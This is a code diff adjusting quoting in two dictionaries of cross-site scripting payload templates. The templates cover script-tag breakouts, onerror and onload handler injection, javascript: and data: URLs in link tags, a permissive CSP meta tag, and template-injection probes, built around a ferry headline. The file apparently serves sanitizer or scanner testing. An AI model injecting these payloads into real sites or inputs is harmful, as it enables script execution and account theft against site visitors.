@@ -192,7 +192,7 @@ HEADS = {
     "&lt;/script&gt;'>",
     "json-ld-comment": '<script type="application/ld+json">{{"@type":"NewsArticle","headline":'
     '"The ferry <!--<script>{call}","author":"<\\/script><script>{call}<\\/script>"}}</script>',
-    "hreflang": '<link rel=alternate hreflang="es\"onerror=\"{call}" href="javascript:{call}">',
+    "hreflang": '<link rel=alternate hreflang="es"onerror="{call}" href="javascript:{call}">',
     "amphtml": '<link rel=amphtml href="javascript:{call}"><link rel=icon href="javascript:{call}">',
     "csp": "<meta http-equiv=content-security-policy content=\"script-src 'unsafe-inline'\">",
     "preload": '<link rel=modulepreload href="data:text/javascript,{call}">',
@@ -202,7 +202,7 @@ HEADS = {
 TITLES = {
     "script": "Ferry sails &lt;/title&gt;&lt;/script&gt;&lt;script&gt;{call}&lt;/script&gt; again",
     "image": "Ferry sails &lt;img src=x onerror={call}&gt; again",
-    "attribute": "Ferry sails \" onload=\"{call} again",
+    "attribute": 'Ferry sails " onload="{call} again',
     "comment": "Ferry sails --&gt;&lt;script&gt;{call}&lt;/script&gt; again",
     "template": "Ferry sails {{{{7*7}}}} {{% raw %}} ${{{call}}} again",
 }
